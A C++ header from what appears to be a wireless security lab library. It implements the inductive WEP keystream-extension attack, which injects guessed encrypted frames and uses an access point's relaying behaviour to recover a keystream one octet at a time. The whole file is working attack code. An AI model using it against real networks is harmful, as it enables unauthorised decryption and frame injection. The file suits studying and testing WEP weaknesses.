#pragma once

#include <numeric>
#include <optional>
#include <vector>

#include "wavelab/oracle.hpp"
#include "wavelab/rng.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

struct InductiveOptions {
  std::uint8_t key_id = 0;
  std::optional<Mac> relay_dst;  // defaults to the attacker's own address
  std::uint64_t order_seed = 0;  // guessing order per byte is a seeded permutation
  double window = 2.5e-3;
};

struct InductiveResult {
  Keystream keystream;
  std::vector<std::uint16_t> injections_per_byte;
  std::size_t injections = 0;
};

/// Extends a known keystream one octet at a time. With n octets known, a
/// plaintext of n-3 octets plus its ICV is n+1 octets long; the first n are
/// encrypted with the known keystream and the last is guessed. The access
/// point relays exactly the guess whose ICV checks, which reveals the next
/// keystream octet. At most 256 injections per octet.
inline InductiveResult inductive_extend(Oracle& oracle, const Keystream& seed, const Mac& bssid, std::size_t target_len,
                                        const InductiveOptions& options = {}) {
  if (seed.bytes.size() < 5) throw Error(ErrorKind::SeedTooShort, "seed keystream needs at least 5 octets");
  InductiveResult out;
  out.keystream = seed;
  if (target_len <= seed.bytes.size()) return out;

  Rng order_rng(options.order_seed);
  const Mac dst = options.relay_dst.value_or(oracle.mac());
  Bytes& ks = out.keystream.bytes;

  while (ks.size() < target_len) {
    const std::size_t n = ks.size();
    Bytes plain(n - 3, 0);
    Bytes padded = with_icv(plain);
    Bytes cipher(n + 1);
    for (std::size_t i = 0; i < n; ++i) cipher[i] = padded[i] ^ ks[i];

    std::vector<std::uint8_t> guesses(256);
    std::iota(guesses.begin(), guesses.end(), 0);
    order_rng.shuffle(guesses);

    std::optional<std::uint8_t> found;
    std::uint16_t tries = 0;
    for (auto g : guesses) {
      cipher[n] = padded[n] ^ g;
      Frame f;
      f.ftype = FrameType::Data;
      f.src = oracle.mac();
      f.dst = dst;
      f.bssid = bssid;
      f.flags = flags::kPrivacy;
      f.body = WepEnvelope{seed.iv, options.key_id, cipher};
      ++tries;
      for (const auto& heard : oracle.exchange(std::move(f), options.window)) {
        if (heard.ftype == FrameType::Data && heard.src == bssid && heard.dst == dst && heard.is_wep() &&
            heard.wep().ciphertext.size() == n + 1) {
          found = g;
          break;
        }
      }
      if (found) break;
    }
    out.injections += tries;
    out.injections_per_byte.push_back(tries);
    if (!found)
      throw Error(ErrorKind::OracleSilent, "access point relayed none of 256 guesses at offset " + std::to_string(n));
    ks.push_back(*found);
  }
  return out;
}

}  // namespace wavelab::attacks
